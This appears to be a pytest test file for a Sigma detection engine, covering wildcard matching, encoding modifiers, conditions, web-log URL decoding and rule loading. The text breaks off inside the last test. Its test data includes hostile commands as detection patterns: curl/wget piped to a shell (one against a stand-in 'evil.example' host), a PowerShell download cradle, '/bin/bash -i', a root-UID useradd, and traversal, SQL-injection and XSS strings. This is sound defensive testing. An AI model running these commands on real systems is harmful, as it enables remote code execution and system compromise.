"""Sigma matching semantics: small rules written here, evaluated on event dicts.

Each test compiles a `detection:` block with `compile_detection` (or loads rule
files with `load_rules`) and runs it on events built from `soc_tui.model.Event`
(the keys the store's reader gives), wrapped in `RuleEvent`.
"""

from __future__ import annotations

import base64
import random
import re
from pathlib import Path
from typing import Any

import pytest
import yaml

from soc_tui.detect.fields import RuleEvent
from soc_tui.detect.loader import load_rules
from soc_tui.detect.offline import event_dict
from soc_tui.detect.sigma import Pattern, RuleError, _base64offset, _STAR, _ONE, _tokens, compile_detection
from soc_tui.model import Event
from soc_tui.parse import LineParser

# -- helpers -------------------------------------------------------------------------


def ev(raw: str = "", **fields: Any) -> RuleEvent:
    """A RuleEvent of an Event with the given columns (`extra` a dict)."""
    return RuleEvent(event_dict(Event(ts=0, raw=raw, **fields)))


def web(line: str) -> RuleEvent:
    """An access-log line as the collector parses it."""
    parser = LineParser(fmt="auto", source_id="/var/log/nginx/access.log", year=2024, tz="UTC")
    e = event_dict(parser.parse(line))
    assert e["http_method"] is not None, line
    return RuleEvent(e)


def access(url: str, *, method: str = "GET", status: int = 200, agent: str = "curl/8.0") -> RuleEvent:
    return web(f'198.51.100.7 - - [10/Oct/2024:13:55:36 +0000] "{method} {url} HTTP/1.1" {status} 12 "-" "{agent}"')


def det(text: str) -> Any:
    """A detection block from YAML text (`condition: selection` when none is given)."""
    d = yaml.safe_load(text)
    d.setdefault("condition", "selection")
    return compile_detection(d)


def sel(selection: Any, **more: Any) -> Any:
    """A detection block with the one search `selection` (Python data)."""
    return compile_detection({"selection": selection, "condition": "selection", **more})


def matches(selection: Any, e: RuleEvent) -> bool:
    return sel(selection)(e)


def compile_error(detection: Any) -> str:
    with pytest.raises(RuleError) as info:
        compile_detection(detection)
    return str(info.value)


def pattern(value: str, *, cased: bool = False) -> Pattern:
    return Pattern(_tokens(value), cased=cased)


# -- structure: maps, lists, keywords -----------------------------------------------


def test_map_is_and() -> None:
    rule = sel({"user": "alice", "app": "sudo"})
    assert rule(ev(user="alice", app="sudo"))
    assert not rule(ev(user="alice", app="su"))
    assert not rule(ev(user="bob", app="sudo"))
    assert not rule(ev(app="sudo"))  # a missing field matches no value


def test_list_of_values_is_or() -> None:
    rule = sel({"user": ["alice", "bob"], "app": "sudo"})
    assert rule(ev(user="alice", app="sudo"))
    assert rule(ev(user="bob", app="sudo"))
    assert not rule(ev(user="carol", app="sudo"))


def test_list_of_maps_is_or_of_ands() -> None:
    rule = sel([{"user": "alice", "app": "sudo"}, {"user": "bob"}])
    assert rule(ev(user="alice", app="sudo"))
    assert not rule(ev(user="alice", app="su"))
    assert rule(ev(user="bob", app="anything"))
    assert not rule(ev(user="carol"))


def test_keywords_search_the_raw_line_contains_case_insensitive() -> None:
    rule = sel(["Failed password", "INVALID user"])
    assert rule(ev("Oct 1 sshd[1]: failed PASSWORD for root"))
    assert rule(ev("Oct 1 sshd[1]: Invalid user admin from 1.2.3.4"))
    assert not rule(ev("Oct 1 sshd[1]: Accepted password for root"))
    # Keywords read the raw line, not the parsed fields.
    assert not rule(ev("something else", message="Failed password"))


def test_keyword_body_as_a_single_string_and_numbers() -> None:
    assert compile_detection({"kw": "chmod +x", "condition": "kw"})(ev("sh -c 'chmod +x /tmp/a'"))
    rule = compile_detection({"kw": [4444, 1337], "condition": "kw"})
    assert rule(ev("connect to 10.0.0.1:4444"))
    assert not rule(ev("connect to 10.0.0.1:22"))


def test_keywords_take_wildcards_inside_the_implicit_contains() -> None:
    rule = sel(["wget *| sh", "curl ?http"])
    assert rule(ev("x wget http://e/a.sh | sh y"))
    assert rule(ev("x curl -http"))
    assert not rule(ev("x curl http"))  # ? needs exactly one character


def test_keywords_all_modifier_needs_every_keyword() -> None:
    rule = sel({"|all": ["useradd", "-o", "-u 0"]})
    assert rule(ev("useradd -o -u 0 evil"))
    assert rule(ev("-U 0 then -O then USERADD"))  # any order, case-insensitive
    assert not rule(ev("useradd -o evil"))


def test_keywords_cased_and_re() -> None:
    cased = sel({"|cased": ["Evil"]})
    assert cased(ev("an Evil line"))
    assert not cased(ev("an evil line"))
    rx = sel({"|re": [r"uid=0\(\w+\)"]})
    assert rx(ev("id: uid=0(root) gid=0"))
    assert not rx(ev("id: UID=0(root)"))  # re is case-sensitive


def test_keyword_modifiers_a_keyword_cannot_take() -> None:
    for mod in ("startswith", "endswith", "exists", "cidr", "gt", "fieldref"):
        value: Any = True if mod == "exists" else "1"
        assert "keyword" in compile_error({"kw": {f"|{mod}": value}, "condition": "kw"})


# -- string matching -----------------------------------------------------------------


def test_plain_strings_are_case_insensitive_equality() -> None:
    rule = sel({"user": "Alice"})
    assert rule(ev(user="alice"))
    assert rule(ev(user="ALICE"))
    assert not rule(ev(user="alice2"))
    assert not rule(ev(user="xalice"))


@pytest.mark.parametrize(
    "value, yes, no",
    [
        ("/tmp/*", ["/tmp/", "/TMP/x/y"], ["/var/tmp/x", "/tmp"]),
        ("*.php", [".php", "/a/b.PHP"], ["/a.php5", "/a.ph"]),
        ("*passwd*", ["passwd", "/etc/passwd.bak"], ["/etc/shadow"]),
        ("a*b*c", ["abc", "a--b--c", "abbc", "acbc"], ["ab", "abcx", "xabc", "acb"]),
        ("*a*b*", ["ab", "xaxbx"], ["ba", "b"]),
        ("*", ["", "anything"], []),
        ("**x**", ["x", "axa"], ["y"]),
        ("file?.txt", ["file1.txt", "FILEa.TXT"], ["file.txt", "file12.txt"]),
        ("??", ["ab", "  "], ["a", "abc"]),
        ("*?", ["a", "abc"], [""]),
        ("?*?", ["ab", "abc"], ["a"]),
        ("a?c*x?z", ["abcx-z", "a-c123xyz", "abcxyzxyz"], ["acxyz", "abcxz", "abcxyzz"]),
        ("*x?y*", ["xay", "--xzy--", "xxxay"], ["xy", "x--y"]),
        ("*ab?ab*", ["abxab", "aabcabx", "abaab"], ["abab", "ababab"]),
        ("", [""], ["x"]),
    ],
)
def test_wildcards(value: str, yes: list[str], no: list[str]) -> None:
    rule = sel({"user": value})
    for s in yes:
        assert rule(ev(user=s)), (value, s)
    for s in no:
        assert not rule(ev(user=s)), (value, s)


def _reference_glob(value: str, s: str, cased: bool) -> bool:
    """Sigma wildcard semantics through a regex, for short random strings only."""
    rx = "".join(
        ".*" if t is _STAR else "." if t is _ONE else re.escape(t) for t in _tokens(value)
    )
    return re.fullmatch(rx, s, re.S if cased else re.S | re.I) is not None


def test_wildcard_matching_agrees_with_a_regex_on_random_patterns() -> None:
    rnd = random.Random(20241010)
    alphabet = "abAB*?\\"
    for _ in range(4000):
        value = "".join(rnd.choice(alphabet) for _ in range(rnd.randint(0, 7)))
        subject = "".join(rnd.choice("abAB*?\\") for _ in range(rnd.randint(0, 9)))
        cased = rnd.random() < 0.3
        p = pattern(value, cased=cased)
        got = p.match(subject if cased else subject.lower())
        assert got == _reference_glob(value, subject, cased), (value, subject, cased, p.kind)


@pytest.mark.parametrize(
    "value, literal",
    [
        (r"a\*b", "a*b"),
        (r"a\?b", "a?b"),
        (r"C:\\Windows", "C:\\Windows"),  # \\ is one backslash
        (r"C:\Windows", "C:\\Windows"),  # a backslash before another character is literal
        (r"\\\*", "\\*"),  # escaped backslash, then escaped star
        (r"\\\\share", "\\\\share"),  # four backslashes are two
        ("trailing\\", "trailing\\"),
    ],
)
def test_escapes_make_literals(value: str, literal: str) -> None:
    rule = sel({"user": value})
    assert rule(ev(user=literal)), (value, literal)
    if "*" in literal:
        assert not rule(ev(user=literal.replace("*", "xyz")))
    if "?" in literal:
        assert not rule(ev(user=literal.replace("?", "x")))


def test_escaped_backslash_before_a_wildcard_keeps_the_wildcard() -> None:
    rule = sel({"user": r"dir\\*"})  # a backslash, then a wildcard
    assert rule(ev(user="dir\\anything"))
    assert rule(ev(user="dir\\"))
    assert not rule(ev(user="dir*"))
    assert not rule(ev(user="dirx"))


def test_null_matches_a_missing_or_empty_field() -> None:
    rule = sel({"user": None})
    assert rule(ev())
    assert rule(ev(user=""))
    assert not rule(ev(user="alice"))
    either = sel({"user": [None, "alice"]})
    assert either(ev()) and either(ev(user="alice"))
    assert not either(ev(user="bob"))
    # `filter: {field: null}` negated is the spec's "not null".
    rule = compile_detection({"selection": {"app": "sudo"}, "filter": {"user": None},
                              "condition": "selection and not filter"})
    assert rule(ev(app="sudo", user="alice"))
    assert not rule(ev(app="sudo"))


def test_numbers_match_numeric_fields_and_their_text() -> None:
    rule = sel({"http_status": 404})
    assert rule(ev(http_status=404))
    assert not rule(ev(http_status=4040))
    assert not rule(ev(http_status=200))
    assert sel({"http_status": "404"})(ev(http_status=404))  # a quoted number is the same text
    assert sel({"http_status": "40*"})(ev(http_status=404))  # wildcards apply to its text
    assert sel({"user": 1000})(ev(user="1000"))
    assert sel({"extra_flag": True})(ev(extra={"extra_flag": True}))
    assert sel({"extra_flag": False})(ev(extra={"extra_flag": False}))
    assert not sel({"extra_flag": True})(ev(extra={"extra_flag": False}))


def test_empty_string_value() -> None:
    rule = sel({"user": ""})
    assert rule(ev(user=""))
    assert not rule(ev(user="x"))
    assert not rule(ev())  # missing is not the empty string (that is null)


def test_extra_fields_are_found_by_name_and_lower_case() -> None:
    rule = sel({"a0": "bash", "Exe|endswith": "/bash"})
    assert rule(ev(extra={"a0": "bash", "exe": "/usr/bin/bash"}))
    assert not rule(ev(extra={"a0": "bash"}))


# -- modifiers -------------------------------------------------------------------------


def test_contains_startswith_endswith() -> None:
    assert matches({"message|contains": "PASS"}, ev(message="bad password"))
    assert not matches({"message|contains": "pass"}, ev(message="bad pas"))
    assert matches({"message|startswith": "BAD"}, ev(message="bad password"))
    assert not matches({"message|startswith": "password"}, ev(message="bad password"))
    assert matches({"message|endswith": "WORD"}, ev(message="bad password"))
    assert not matches({"message|endswith": "bad"}, ev(message="bad password"))


def test_modifiers_keep_inner_wildcards_and_escapes() -> None:
    assert matches({"message|contains": "a*c"}, ev(message="xx abbbc yy"))
    assert matches({"message|startswith": "a?c"}, ev(message="abc..."))
    assert not matches({"message|startswith": "a?c"}, ev(message="ac..."))
    assert matches({"message|endswith": r"\*"}, ev(message="glob*"))
    assert not matches({"message|endswith": r"\*"}, ev(message="glob"))
    assert matches({"message|contains": r"\?"}, ev(message="what? yes"))
    assert not matches({"message|contains": r"\?"}, ev(message="what. yes"))


def test_contains_all_needs_every_value() -> None:
    rule = sel({"message|contains|all": ["curl", "| bash"]})
    assert rule(ev(message="curl http://x | bash"))
    assert not rule(ev(message="curl http://x | sh"))
    # Without all, values are ORed.
    assert sel({"message|contains": ["curl", "| bash"]})(ev(message="curl http://x | sh"))


def test_exists() -> None:
    yes = sel({"user|exists": True})
    no = sel({"user|exists": False})
    assert yes(ev(user="alice")) and not no(ev(user="alice"))
    assert no(ev()) and not yes(ev())
    assert yes(ev(user=""))  # exists checks presence, not the value
    assert sel({"a0|exists": True})(ev(extra={"a0": "x"}))
    assert not sel({"a0|exists": True})(ev(extra={"a1": "x"}))
    assert "true or false" in compile_error({"s": {"user|exists": "yes"}, "condition": "s"})


def test_cased() -> None:
    rule = sel({"user|cased": "Alice"})
    assert rule(ev(user="Alice"))
    assert not rule(ev(user="alice"))
    assert sel({"message|contains|cased": "Evil"})(ev(message="an Evil thing"))
    assert not sel({"message|contains|cased": "Evil"})(ev(message="an evil thing"))
    assert sel({"message|cased": "A*z"})(ev(message="Abcz"))
    assert not sel({"message|cased": "A*z"})(ev(message="abcz"))


def test_re_is_case_sensitive_search_with_flags() -> None:
    assert matches({"message|re": r"uid=\d+"}, ev(message="x uid=0 y"))  # search, not fullmatch
    assert not matches({"message|re": "^uid"}, ev(message="x uid=0"))
    assert not matches({"message|re": "UID"}, ev(message="uid=0"))
    assert matches({"message|re|i": "UID"}, ev(message="uid=0"))
    assert matches({"message|re|ignorecase": "UID"}, ev(message="uid=0"))
    two_lines = "first\nsecond"
    assert not matches({"message|re": "^second$"}, ev(message=two_lines))
    assert matches({"message|re|m": "^second$"}, ev(message=two_lines))
    assert not matches({"message|re": "first.second"}, ev(message=two_lines))
    assert matches({"message|re|s": "first.second"}, ev(message=two_lines))
    assert matches({"message|re|i|m": "^SECOND"}, ev(message=two_lines))
    both = sel({"message|re|all": ["^a", "z$"]})
    assert both(ev(message="a..z")) and not both(ev(message="a..y"))
    assert "bad regular expression" in compile_error({"s": {"message|re": "(unclosed"}, "condition": "s"})


def test_regex_flags_need_re() -> None:
    assert "re" in compile_error({"s": {"message|contains|i": "x"}, "condition": "s"})


def test_cidr_v4_v6() -> None:
    v4 = sel({"src_ip|cidr": ["10.0.0.0/8", "192.168.1.0/24"]})
    assert v4(ev(src_ip="10.200.3.4"))
    assert v4(ev(src_ip="192.168.1.77"))
    assert not v4(ev(src_ip="192.168.2.1"))
    assert not v4(ev(src_ip="11.0.0.1"))
    assert not v4(ev(src_ip="not an ip"))
    assert not v4(ev())
    assert not v4(ev(src_ip="::1"))
    # An IPv4 address written IPv4-mapped (dual-stack sockets log it so) is the address.
    assert v4(ev(src_ip="::ffff:10.1.2.3"))
    v6 = sel({"src_ip|cidr": "2001:db8::/32"})
    assert v6(ev(src_ip="2001:DB8:0:1::5"))
    assert not v6(ev(src_ip="2001:db9::1"))
    assert not v6(ev(src_ip="10.0.0.1"))
    assert sel({"src_ip|cidr": "fe80::/10"})(ev(src_ip="fe80::1%eth0"))  # zone index
    assert "not a network" in compile_error({"s": {"src_ip|cidr": "10.0.0.0/33"}, "condition": "s"})


def test_base64() -> None:
    enc = base64.b64encode(b"/bin/bash -i").decode()
    rule = sel({"message|base64": "/bin/bash -i"})
    assert rule(ev(message=enc))
    assert not rule(ev(message="x" + enc))  # base64 alone is equality
    assert sel({"message|base64|contains": "/bin/bash -i"})(ev(message="echo " + enc + " | base64 -d"))
    # Escapes are resolved before encoding; wildcards cannot be encoded.
    assert sel({"message|base64": r"a\*b"})(ev(message=base64.b64encode(b"a*b").decode()))
    assert "wildcard" in compile_error({"s": {"message|base64": "a*b"}, "condition": "s"})


def test_base64offset_finds_the_value_at_any_offset() -> None:
    value = "http://evil.example/x.sh"
    rule = sel({"message|base64offset|contains": value})
    for prefix in (b"", b"a", b"ab", b"abc", b"abcd", b"curl -s "):
        for suffix in (b"", b"|sh", b"!"):
            text = base64.b64encode(prefix + value.encode() + suffix).decode()
            assert rule(ev(message="payload " + text)), (prefix, suffix)
    assert not rule(ev(message=base64.b64encode(b"http://good.example/x.sh").decode()))


def test_base64offset_variants_property() -> None:
    """Every variant occurs in the base64 of the value after any prefix whose
    length gives that variant's shift (mod 3), whatever the surrounding bytes,
    and is as long as the bits that belong to the value alone allow."""
    rnd = random.Random(7)
    for _ in range(600):
        data = bytes(rnd.randrange(256) for _ in range(rnd.randint(1, 24)))
        variants = _base64offset(data)
        assert len(variants) == 3
        for shift, variant in enumerate(variants):
            start = -(-shift * 8 // 6)
            end = (shift + len(data)) * 8 // 6
            assert len(variant) == max(0, end - start), (data, shift)
            for extra in (0, 3, 6):
                for _ in range(3):
                    prefix = bytes(rnd.randrange(256) for _ in range(shift + extra))
                    suffix = bytes(rnd.randrange(256) for _ in range(rnd.randint(0, 4)))
                    text = base64.b64encode(prefix + data + suffix).decode()
                    assert variant in text, (data, shift, prefix, suffix)
    # A value of two bytes or more gives a usable variant at every shift.
    for n in (2, 3, 4):
        assert all(_base64offset(b"x" * n)), n


def test_windash_all_permutations() -> None:
    rule = sel({"message|windash|contains": " -exec -nop"})
    dashes = ["-", "/", "\u2013", "\u2014", "\u2015"]
    for a in dashes:
        for b in dashes:
            assert rule(ev(message=f"powershell {a}exec {b}nop x")), (a, b)
    assert not rule(ev(message="powershell +exec -nop"))
    # Only a dash that starts a word is varied: `a-b` stays as written.
    inner = sel({"message|windash": "x a-b"})
    assert inner(ev(message="x a-b"))
    assert not inner(ev(message="x a/b"))
    assert sel({"message|windash": "-c"})(ev(message="/c"))
    assert sel({"message|windash|startswith": "--x"})(ev(message="-/x y"))


def test_windash_expands_at_most_four_dashes() -> None:
    assert sel({"message|windash|contains": "-a -b -c -d"})(ev(message="/a -b \u2013c /d"))
    assert "windash" in compile_error({"s": {"message|windash": "-a -b -c -d -e"}, "condition": "s"})


@pytest.mark.parametrize(
    "mods, encoded",
    [
        ("wide|base64", base64.b64encode("cmd /c".encode("utf-16-le"))),
        ("utf16le|base64", base64.b64encode("cmd /c".encode("utf-16-le"))),
        ("utf16be|base64", base64.b64encode("cmd /c".encode("utf-16-be"))),
        ("utf16|base64", base64.b64encode(b"\xff\xfe" + "cmd /c".encode("utf-16-le"))),
    ],
)
def test_utf16_encodings_with_base64(mods: str, encoded: bytes) -> None:
    assert sel({f"message|{mods}": "cmd /c"})(ev(message=encoded.decode()))
    assert not sel({f"message|{mods}": "cmd /d"})(ev(message=encoded.decode()))


def test_wide_base64offset_finds_powershell_encodedcommand() -> None:
    script = "IEX (New-Object Net.WebClient).DownloadString('http://x')"
    blob = base64.b64encode(("$a=1;" + script).encode("utf-16-le")).decode()
    rule = sel({"message|wide|base64offset|contains": "DownloadString"})
    assert rule(ev(message="powershell -enc " + blob))
    assert "base64" in compile_error({"s": {"message|wide": "x"}, "condition": "s"})


def test_numeric_comparisons() -> None:
    assert matches({"http_status|gte": 400}, ev(http_status=400))
    assert matches({"http_status|gt": 399}, ev(http_status=400))
    assert not matches({"http_status|gt": 400}, ev(http_status=400))
    assert matches({"http_status|lt": 500}, ev(http_status=404))
    assert matches({"http_status|lte": 404}, ev(http_status=404))
    assert not matches({"http_status|lte": 403}, ev(http_status=404))
    assert matches({"bytes|gt": 1.5}, ev(bytes=2))
    assert matches({"size|gte": "10"}, ev(extra={"size": "12"}))  # numbers in text compare as numbers
    assert not matches({"size|gte": 10}, ev(extra={"size": "9"}))  # not as text ("9" > "10")
    assert not matches({"size|gt": 1}, ev(extra={"size": "abc"}))
    assert not matches({"size|gt": 1}, ev(extra={"size": "1_000"}))  # Python's float() would take it
    assert not matches({"size|gt": 1}, ev(extra={"size": "inf"}))
    assert not matches({"size|gt": 1}, ev())
    # Large integers compare exactly, not through floats.
    assert not matches({"size|gt": 9007199254740992}, ev(extra={"size": "9007199254740993"[:-1] + "2"}))
    assert matches({"size|gt": 9007199254740992}, ev(extra={"size": "9007199254740993"}))
    # A list is ORed; all ANDs it (a range).
    rng = sel({"http_status|gte|all": [400, 500]})
    assert rng(ev(http_status=503)) and not rng(ev(http_status=404))
    assert "not a number" in compile_error({"s": {"http_status|gt": "x"}, "condition": "s"})


def test_fieldref() -> None:
    same = sel({"user|fieldref": "target_user"})
    assert same(ev(user="root", target_user="ROOT"))  # case-insensitive like any string match
    assert not same(ev(user="alice", target_user="root"))
    assert not same(ev(user="alice"))
    assert sel({"user|fieldref|cased": "target_user"})(ev(user="root", target_user="root"))
    assert not sel({"user|fieldref|cased": "target_user"})(ev(user="root", target_user="ROOT"))
    assert sel({"message|fieldref|contains": "user"})(ev(message="session for alice opened", user="alice"))
    assert sel({"message|fieldref|startswith": "user"})(ev(message="alice: x", user="alice"))
    assert sel({"message|fieldref|endswith": "user"})(ev(message="by alice", user="alice"))
    assert not sel({"message|fieldref|endswith": "user"})(ev(message="alice: x", user="alice"))


def test_neq() -> None:
    rule = sel({"app": "sshd", "user|neq": ["root", "admin"]})
    assert rule(ev(app="sshd", user="alice"))
    assert not rule(ev(app="sshd", user="ROOT"))
    assert not rule(ev(app="sshd", user="admin"))
    assert sel({"http_status|neq": 200})(ev(http_status=404))
    assert not sel({"http_status|neq": 200})(ev(http_status=200))


def test_unknown_conflicting_and_unsupported_modifiers_are_errors() -> None:
    assert "unknown modifier 'bogus'" in compile_error({"s": {"user|bogus": "x"}, "condition": "s"})
    assert "expand" in compile_error({"s": {"user|expand": "%Admins%"}, "condition": "s"})
    assert "not supported" in compile_error({"s": {"ts|hour": 3}, "condition": "s"})
    assert "conflicting" in compile_error({"s": {"user|startswith|endswith": "x"}, "condition": "s"})
    assert "re" in compile_error({"s": {"user|base64|re": "x"}, "condition": "s"})
    assert "cidr" in compile_error({"s": {"src_ip|windash|cidr": "10.0.0.0/8"}, "condition": "s"})
    assert "empty" in compile_error({"s": {"user": []}, "condition": "s"})
    assert "string or number" in compile_error({"s": {"user": {"a": 1}}, "condition": "s"})


# -- conditions ----------------------------------------------------------------------

A = {"user": "a"}
B = {"app": "b"}
C = {"host": "c"}


def _abc(condition: Any, **more: Any) -> Any:
    return compile_detection({"sa": A, "sb": B, "sc": C, **more, "condition": condition})


def _truth(rule: Any, a: bool, b: bool, c: bool) -> bool:
    return rule(ev(user="a" if a else "x", app="b" if b else "x", host="c" if c else "x"))


def _table(rule: Any, fn: Any) -> None:
    for a in (False, True):
        for b in (False, True):
            for c in (False, True):
                assert _truth(rule, a, b, c) == fn(a, b, c), (a, b, c)


def test_precedence_not_binds_tighter_than_and_tighter_than_or() -> None:
    _table(_abc("sa or sb and sc"), lambda a, b, c: a or (b and c))
    _table(_abc("sa and sb or sc"), lambda a, b, c: (a and b) or c)
    _table(_abc("not sa and sb"), lambda a, b, c: (not a) and b)
    _table(_abc("not sa or sb"), lambda a, b, c: (not a) or b)
    _table(_abc("sa and not sb or not sc"), lambda a, b, c: (a and not b) or not c)
    _table(_abc("not not sa"), lambda a, b, c: a)
    _table(_abc("sa AND sb"), lambda a, b, c: a and b)  # operators in any case


def test_parentheses() -> None:
    _table(_abc("(sa or sb) and sc"), lambda a, b, c: (a or b) and c)
    _table(_abc("sa and (sb or sc)"), lambda a, b, c: a and (b or c))
    _table(_abc("not (sa or sb)"), lambda a, b, c: not (a or b))
    _table(_abc("((sa)) and ((not sb) or sc)"), lambda a, b, c: a and ((not b) or c))


def test_quantifiers_over_patterns_and_them() -> None:
    d = {"sel_a": A, "sel_b": B, "other": C}
    one = compile_detection({**d, "condition": "1 of sel_*"})
    _table(one, lambda a, b, c: a or b)
    both = compile_detection({**d, "condition": "all of sel_*"})
    _table(both, lambda a, b, c: a and b)
    _table(compile_detection({**d, "condition": "any of sel*"}), lambda a, b, c: a or b)
    _table(compile_detection({**d, "condition": "all of them"}), lambda a, b, c: a and b and c)
    _table(compile_detection({**d, "condition": "1 of them"}), lambda a, b, c: a or b or c)
    _table(compile_detection({**d, "condition": "1 of *_b or other"}), lambda a, b, c: b or c)
    _table(compile_detection({**d, "condition": "1 of sel_* and not other"}),
           lambda a, b, c: (a or b) and not c)
    _table(compile_detection({**d, "condition": "not 1 of sel_*"}), lambda a, b, c: not (a or b))
    _table(compile_detection({**d, "condition": "2 of them"}), lambda a, b, c: a + b + c >= 2)
    _table(compile_detection({**d, "condition": "1 of sel_a"}), lambda a, b, c: a)


def test_underscore_identifiers_are_left_out_of_them_and_patterns() -> None:
    d = {"sel": A, "_helper": B, "condition": "all of them"}
    _table(compile_detection(d), lambda a, b, c: a)
    _table(compile_detection({**d, "condition": "1 of *"}), lambda a, b, c: a)
    _table(compile_detection({**d, "condition": "1 of _*"}), lambda a, b, c: b)  # asked for by name
    _table(compile_detection({**d, "condition": "sel and _helper"}), lambda a, b, c: a and b)


def test_a_list_of_conditions_is_ored() -> None:
    _table(_abc(["sa and sb", "sc"]), lambda a, b, c: (a and b) or c)


@pytest.mark.parametrize(
    "condition, reason",
    [
        ("sa and missing", "'missing', which the detection does not define"),
        ("sa and", "ends too early"),
        ("(sa or sb", "')'"),
        ("sa or sb)", "unexpected ')'"),
        ("sa sb", "unexpected 'sb'"),
        ("1 of nothing*", "matches no search identifier"),
        ("0 of them", "0 of"),
        ("sa | count() > 5", "aggregation"),
        ("", "empty condition"),
    ],
)
def test_bad_conditions(condition: str, reason: str) -> None:
    assert reason in compile_error({"sa": A, "sb": B, "condition": condition})


def test_detection_without_condition_or_with_odd_searches() -> None:
    assert "no condition" in compile_error({"sa": A})
    assert "empty" in compile_error({"sa": {}, "condition": "sa"})
    assert "mixes maps and keywords" in compile_error({"sa": ["x", {"user": "a"}], "condition": "sa"})


# -- web: URL decoding ---------------------------------------------------------------


def test_uri_query_matches_raw_and_decoded_traversal() -> None:
    e = access("/static/%2e%2e%2f%2e%2e%2fetc/passwd")
    assert matches({"cs-uri-query|contains": "%2e%2e%2f"}, e)
    assert matches({"cs-uri-query|contains": "../../etc/passwd"}, e)
    assert matches({"cs-uri-stem|contains": "../"}, e)  # the path decodes too
    assert not matches({"cs-uri-query|contains": "..\\"}, e)


def test_query_plus_is_a_space_and_double_encoding_decodes_fully() -> None:
    e = access("/search?q=1+union+select+password")
    assert matches({"cs-uri-query|contains": "union select"}, e)
    assert matches({"cs-uri-query|contains": "1+union"}, e)  # the raw form still matches
    d = access("/x?id=1%2520union%2520select")  # %25 is %, decoded twice
    assert matches({"cs-uri-query|contains": "union select"}, d)
    assert matches({"cs-uri-query|contains": "%2520"}, d)
    # `+` in a path is a plus, not a space.
    p = access("/a+b/c?x=1")
    assert matches({"cs-uri-stem": "/a+b/c"}, p)
    assert not matches({"cs-uri-stem": "/a b/c"}, p)


def test_keywords_see_the_decoded_request_line_too() -> None:
    e = access("/?x=%3Cscript%3Ealert(1)%3C/script%3E")
    assert matches(["<script>"], e)
    assert matches(["%3Cscript"], e)


def test_web_field_mapping() -> None:
    e = access("/login.php?user=admin", method="POST", status=401, agent="sqlmap/1.7")
    rule = sel({"cs-method": "POST", "sc-status": 401, "cs-user-agent|startswith": "sqlmap",
                "c-ip|cidr": "198.51.100.0/24", "cs-uri-stem": "/login.php",
                "cs-uri-query|endswith": "?user=admin"})
    assert rule(e)


# -- performance-shaped patterns -------------------------------------------------------


def test_wildcard_patterns_compile_to_plain_string_operations() -> None:
    p = pattern("*wget *; chmod +x*")
    assert p.kind == "pieces"
    assert pattern("*wget*").kind == "contains"
    assert pattern("wget*").kind == "prefix"
    assert pattern("*wget").kind == "suffix"
    assert pattern("wget").kind == "eq"
    assert pattern("*").kind == "any"
    for value in ("*a?b*", "?", "*x*?*y*z*"):
        assert pattern(value).kind == "glob", value
    # Nothing compiles to a regex: no kind can backtrack.
    assert not hasattr(p, "regex") or getattr(p, "regex") is None


def test_pathological_wildcards_on_a_long_line_are_correct() -> None:
    rule = sel(["wget *; chmod +x*"])
    long_no = "wget " + "a" * 200_000 + "; chmod x"
    long_yes = "x" * 100_000 + "wget http://e/m; chmod +x m" + "y" * 100_000
    assert not rule(ev(long_no))
    assert rule(ev(long_yes))
    q = sel({"message": "*a*a*a*a*a*?b*"})
    assert not q(ev(message="a" * 50_000))
    assert q(ev(message="a" * 50_000 + "xb"))


# -- rule files ------------------------------------------------------------------------

GOOD = """
title: Good one
id: 11111111-1111-1111-1111-111111111111
logsource: {product: linux, service: sshd}
detection:
  selection: {message|contains: Failed password}
  condition: selection
level: low
---
title: Good two
name: good_two
logsource: {product: linux}
detection:
  keywords: [useradd]
  condition: keywords
"""

BAD_FILES = {
    "unknown_mod.yml": ("title: Unknown modifier\nlogsource: {product: linux}\n"
                        "detection: {s: {user|sometimes: x}, condition: s}\n"),
    "expand.yml": ("title: Expand\nlogsource: {product: linux}\n"
                   "detection: {s: {user|expand: '%Admins%'}, condition: s}\n"),
    "bad_yaml.yml": "title: Broken\nlogsource: {product: linux\ndetection:\n  s: [x\n",
    "undefined.yml": ("title: Undefined\nlogsource: {product: linux}\n"
                      "detection: {s: {user: x}, condition: s and t}\n"),
    "count.yml": ("title: Count\nlogsource: {product: linux}\n"
                  "detection: {s: {user: x}, condition: 's | count() by src_ip > 5'}\n"),
    "corr_unknown.yml": ("title: Unknown ref\nname: corr_unknown\n"
                         "correlation: {type: event_count, rules: [no_such_rule], timespan: 1m,"
                         " group-by: [src_ip], condition: {gte: 5}}\n"),
    "corr_cycle.yml": ("title: Cycle A\nname: cycle_a\n"
                       "correlation: {type: temporal, rules: [cycle_b, good_two], timespan: 1m}\n"
                       "---\n"
                       "title: Cycle B\nname: cycle_b\n"
                       "correlation: {type: temporal, rules: [cycle_a, good_two], timespan: 1m}\n"),
}


def test_load_errors_name_file_rule_and_reason_and_the_others_load(tmp_path: Path) -> None:
    (tmp_path / "good.yml").write_text(GOOD)
    for name, text in BAD_FILES.items():
        (tmp_path / name).write_text(text)
    rs = load_rules([tmp_path])
    assert sorted(r.title for r in rs.rules) == ["Good one", "Good two"]
    assert rs.correlations == []
    errors = {Path(e.path).name: e for e in rs.errors}
    reasons = {name: e.reason for name, e in errors.items()}
    assert "unknown modifier 'sometimes'" in reasons["unknown_mod.yml"]
    assert errors["unknown_mod.yml"].rule == "Unknown modifier"
    assert "expand" in reasons["expand.yml"]
    assert re.search(r"bad YAML at line \d+", reasons["bad_yaml.yml"])
    assert "'t', which the detection does not define" in reasons["undefined.yml"]
    assert "aggregation" in reasons["count.yml"] and "correlation" in reasons["count.yml"]
    assert "unknown rule reference(s): no_such_rule" in reasons["corr_unknown.yml"]
    cycle = [e for e in rs.errors if Path(e.path).name == "corr_cycle.yml"]
    assert sorted(e.rule for e in cycle) == ["cycle_a", "cycle_b"]
    assert all("circular" in e.reason for e in cycle)
    assert len(rs.errors) == 8
    # str() of an error names the file, the rule and the reason on one line.
    line = str(errors["expand.yml"])
    assert line.startswith(str(tmp_path / "expand.yml")) and ": Expand: " in line
    # The loaded rules work.
    good = {r.title: r for r in rs.rules}
    assert good["Good one"].match(ev("x", message="Failed password for root"))
    assert good["Good two"].match(ev("useradd -m bob"))


def test_bad_yaml_reports_the_line(tmp_path: Path) -> None:
    (tmp_path / "r.yml").write_text("title: x\nlogsource: {product: linux}\ndetection:\n  s: [a, b\n  condition: s\n")
    (err,) = load_rules([tmp_path]).errors
    m = re.search(r"line (\d+)", err.reason)
    assert m and 4 <= int(m.group(1)) <= 6, err.reason


def test_prefilter_agrees_on_underscore_identifiers(tmp_path: Path) -> None:
    from soc_tui.detect.engine import Engine

    (tmp_path / "r.yml").write_text(
        "title: Underscore\nlogsource: {product: linux}\n"
